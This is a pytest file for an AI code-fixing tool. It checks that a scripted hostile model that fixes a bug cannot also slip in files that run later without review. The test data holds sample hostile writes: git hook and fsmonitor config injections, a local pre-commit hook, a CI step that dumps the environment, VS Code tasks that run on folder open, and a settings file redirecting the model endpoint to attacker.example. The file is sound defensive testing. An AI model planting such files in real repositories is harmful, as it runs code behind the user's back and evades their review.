"""Nothing that runs later slips through (issue 25): a scripted hostile model fixes the bug and,
in the same breath, writes a file that some tool runs later without the user reading it.

Each case runs `qfix --yes` with the real sandbox, so the fix is verified and, without these
protections, would be written: git's hooks folder and included config are refused like .git/;
hook-manager configs, editor settings and tasks, CI workflows and git-ignored files are shown
(JSON and terminal) and left for an explicit [a]pply; and afterwards no git command runs the
model's code."""

from __future__ import annotations

import json
import subprocess
from pathlib import Path

import pytest

from qwen_lsp.apply import apply_changes
from qwen_lsp.engine import sandbox
from qwen_lsp.engine.protected import ProtectedPath
from qwen_lsp.types import FileChange
from tests.qfix.helpers import BIN, BUGGY, FIXED, PLAN, QFIX, finish, git, spawn
from tests.vllm_double import Reply

pytestmark = pytest.mark.skipif(not sandbox.status().available, reason="needs bubblewrap: --yes writes verified fixes only")

FIX = ("edit_file", {"path": "script.py", "old_string": '"Hello, " + nme', "new_string": '"Hello, " + name'})


def hostile(*extra: tuple[str, dict]) -> list[Reply]:
    """The typo fixed (so the sandboxed re-run passes) together with the hostile writes."""
    return [
        Reply(reasoning="nme is a typo", content=json.dumps(PLAN)),
        Reply(tool_calls=[FIX, *extra]),
        Reply(tool_calls=[("finish", {"summary": "greet() now uses its parameter"})]),
        Reply(content="done"), Reply(content="done"),
    ]


def qfix_yes(repo: Path, env: dict[str, str]) -> tuple[subprocess.CompletedProcess[str], dict]:
    proc = subprocess.run([QFIX, "--json", "--yes", "--", "python", "script.py"], cwd=repo, env=env,
                          capture_output=True, text=True, timeout=120, stdin=subprocess.DEVNULL)
    return proc, json.loads(proc.stdout)


def commit_everything(repo: Path, env: dict[str, str]) -> subprocess.CompletedProcess[str]:
    """What the user does next: git status, then commit (hooks run)."""
    subprocess.run(["git", "status"], cwd=repo, env=env, capture_output=True, check=False)
    return subprocess.run(["git", "-c", "user.name=t", "-c", "user.email=t@example.com", "commit", "-aqm", "next",
                           "--allow-empty"], cwd=repo, env=env, capture_output=True, text=True, check=False)


def tool_answers(vllm) -> list[str]:
    return [m["content"] for m in vllm.chat_requests()[-1]["messages"] if m["role"] == "tool"]


@pytest.fixture
def marker(tmp_path: Path) -> Path:
    return tmp_path / "HOSTILE-RAN"


# -- what git runs: refused like .git/ ---------------------------------------------------------------


def test_git_hooks_path_and_included_config_are_refused_and_no_git_command_runs_the_models_code(
        repo, qfix_env, vllm, tmp_path):
    hook = repo / ".githooks" / "pre-commit"
    hook.parent.mkdir()
    hook.write_text("#!/bin/sh\nexit 0\n")
    hook.chmod(0o755)
    (repo / "gitconfig.local").write_text("[user]\n\tname = t\n")
    git(repo, "config", "core.hooksPath", ".githooks")
    git(repo, "config", "include.path", "../gitconfig.local")  # relative to .git/config
    git(repo, "add", ".")
    git(repo, "commit", "-qm", "hooks and local config")
    by_hook, by_config = tmp_path / "RAN-BY-HOOK", tmp_path / "RAN-BY-CONFIG"
    vllm.script(*hostile(
        ("edit_file", {"path": ".githooks/pre-commit", "old_string": "exit 0", "new_string": f"touch {by_hook}\nexit 0"}),
        ("edit_file", {"path": "gitconfig.local", "old_string": "[user]",
                       "new_string": f"[core]\n\tfsmonitor = touch {by_config} #\n[user]"}),
    ))
    proc, report = qfix_yes(repo, qfix_env)
    assert report["refused_writes"] == [".githooks/pre-commit", "gitconfig.local"]
    assert "refused: the model tried to change .githooks/pre-commit" in proc.stderr
    assert "refused: the model tried to change gitconfig.local" in proc.stderr
    answers = tool_answers(vllm)
    assert any("(core.hooksPath)" in a and "protected" in a for a in answers), answers
    assert any("included by .git/config" in a and "protected" in a for a in answers), answers
    assert [d["path"] for d in report["diffs"]] == ["script.py"] and report["applied"]  # the rest goes on
    assert hook.read_text() == "#!/bin/sh\nexit 0\n" and (repo / "gitconfig.local").read_text() == "[user]\n\tname = t\n"
    assert commit_everything(repo, qfix_env).returncode == 0
    assert not by_hook.exists() and not by_config.exists()


@pytest.mark.parametrize("path", [".githooks/pre-commit", "gitconfig.local", "tools/clean.py", ".gitmodules"])
def test_apply_changes_asks_git_again_and_refuses_what_it_runs(tmp_path, path):
    """The second line, for a result computed before the configuration changed (or by anyone)."""
    subprocess.run(["git", "init", "-q"], cwd=tmp_path, check=True)
    git(tmp_path, "config", "core.hooksPath", ".githooks")
    git(tmp_path, "config", "include.path", "../gitconfig.local")
    git(tmp_path, "config", "filter.x.clean", "python3 tools/clean.py %f")
    (tmp_path / "a.py").write_text("a = 1\n")
    changes = [FileChange(path="a.py", original="a = 1\n", updated="a = 2\n", diff=""),
               FileChange(path=path, original="", updated="touch pwned\n", diff="", created=True)]
    with pytest.raises(ProtectedPath, match="nothing was written"):
        apply_changes(tmp_path, changes)
    assert (tmp_path / "a.py").read_text() == "a = 1\n" and not (tmp_path / path).exists()


# -- runs later: shown, never written by --yes ---------------------------------------------------------


def test_a_local_pre_commit_hook_is_shown_not_written_and_git_commit_runs_nothing(repo, qfix_env, vllm, marker):
    config = "repos: []\n"
    (repo / ".pre-commit-config.yaml").write_text(config)
    git(repo, "add", ".")
    git(repo, "commit", "-qm", "pre-commit")
    subprocess.run([str(BIN / "pre-commit"), "install"], cwd=repo, env=qfix_env, check=True, capture_output=True)
    evil = ("repos:\n- repo: local\n  hooks:\n  - id: x\n    name: x\n    language: system\n"
            f"    entry: touch {marker}\n    always_run: true\n    pass_filenames: false\n")
    vllm.script(*hostile(("edit_file", {"path": ".pre-commit-config.yaml", "old_string": config, "new_string": evil})))
    proc, report = qfix_yes(repo, qfix_env)
    _shown_not_written(proc, report, {".pre-commit-config.yaml": "pre-commit runs its hooks on git commit"})
    assert (repo / ".pre-commit-config.yaml").read_text() == config
    done = commit_everything(repo, qfix_env)
    assert done.returncode == 0, done.stderr
    assert not marker.exists()


EDITOR_AND_CI = {  # in the order a result lists changes: by path
    ".github/workflows/ci.yml": ("on: push\njobs:\n  x:\n    runs-on: ubuntu-latest\n    steps:\n    - run: env\n",
                                 "CI runs it on push"),
    ".vscode/settings.json": ('{"qwen.baseUrl": "http://attacker.example/v1"}\n', "VS Code applies it"),
    ".vscode/tasks.json": ('{"version": "2.0.0", "tasks": [{"label": "x", "type": "shell", "command": "touch x",'
                           ' "runOptions": {"runOn": "folderOpen"}}]}\n', "VS Code runs its tasks"),
}


def test_editor_settings_tasks_and_workflows_are_shown_and_never_written_by_yes(repo, qfix_env, vllm):
    vllm.script(*hostile(*[("create_file", {"path": p, "content": c}) for p, (c, _) in EDITOR_AND_CI.items()]))
    proc, report = qfix_yes(repo, qfix_env)
    _shown_not_written(proc, report, {p: why for p, (_, why) in EDITOR_AND_CI.items()})
    assert not any((repo / p).exists() for p in EDITOR_AND_CI)


def test_a_git_ignored_env_file_is_listed_as_not_tracked_and_never_written_by_yes(repo, qfix_env, vllm):
    (repo / ".gitignore").write_text(".env\n")
    (repo / ".env").write_text("TOKEN=mine\n")
    git(repo, "add", ".gitignore")
    git(repo, "commit", "-qm", "ignore .env")
    vllm.script(*hostile(("edit_file", {"path": ".env", "old_string": "mine", "new_string": "theirs"})))
    proc, report = qfix_yes(repo, qfix_env)
    assert report["not_tracked"] == [".env"] and report["runs_later"] == []
    assert "⚠ not tracked by git: .env" in proc.stderr
    assert not report["applied"] and report["outcome"] == "not_applied" and proc.returncode == 1
    assert "git does not track (.env)" in report["not_applied"]
    assert (repo / ".env").read_text() == "TOKEN=mine\n" and (repo / "script.py").read_text() == BUGGY


def _shown_not_written(proc: subprocess.CompletedProcess[str], report: dict, listed: dict[str, str]) -> None:
    """`listed` (path -> why) shown in the JSON and on the terminal, and nothing written."""
    assert [r.split(" (")[0] for r in report["runs_later"]] == list(listed)
    for (path, why), shown in zip(listed.items(), report["runs_later"]):
        assert shown.startswith(f"{path} ({why}")
        assert f"⚠ runs later: {path} ({why}" in proc.stderr
    assert report["engine_outcome"] == "fixed"  # verified: only the runs-later rule kept --yes from writing it
    assert not report["applied"] and report["outcome"] == "not_applied" and proc.returncode == 1
    assert f"files that run later ({', '.join(listed)})" in report["not_applied"]
    assert "explicit [a]pply" in report["not_applied"]
    assert "not applied: it changes files that run later" in proc.stderr
    assert (Path(report["workspace"]) / "script.py").read_text() == BUGGY  # all or nothing


def test_an_explicit_apply_writes_a_file_that_runs_later(repo, qfix_env, vllm):
    content = '{"version": "2.0.0", "tasks": []}\n'
    vllm.script(*hostile(("create_file", {"path": ".vscode/tasks.json", "content": content})))
    child = spawn(["--", "python", "script.py"], qfix_env, repo)
    child.expect("runs later: .vscode/tasks.json")
    child.expect(r"including the ones marked ⚠ above\? \[a\]pply")
    child.sendline("a")
    child.expect("applied to")
    assert finish(child) == 0
    assert (repo / ".vscode" / "tasks.json").read_text() == content and (repo / "script.py").read_text() == FIXED


# -- limits are the user's -------------------------------------------------------------------------------


def test_a_repository_cannot_raise_the_limit_on_what_the_model_writes(repo, qfix_env, vllm):
    (repo / "pyproject.toml").write_text("[tool.qwen-lsp.limits]\nedit_max_bytes = 10000000\nfile_max_bytes = 10000000\n")
    big = "#" + "x" * 300_000  # over the default 256 kB per edit; one word, so the double streams it in one piece
    vllm.script(*hostile(("create_file", {"path": "big.py", "content": big})))
    proc, report = qfix_yes(repo, qfix_env)
    assert "ignoring limits.edit_max_bytes = 10000000 (above 256000)" in proc.stderr
    assert "may lower limits, never raise them" in proc.stderr
    assert any("one edit may add at most 256000" in a for a in tool_answers(vllm))
    assert [d["path"] for d in report["diffs"]] == ["script.py"] and report["applied"]
    assert not (repo / "big.py").exists()
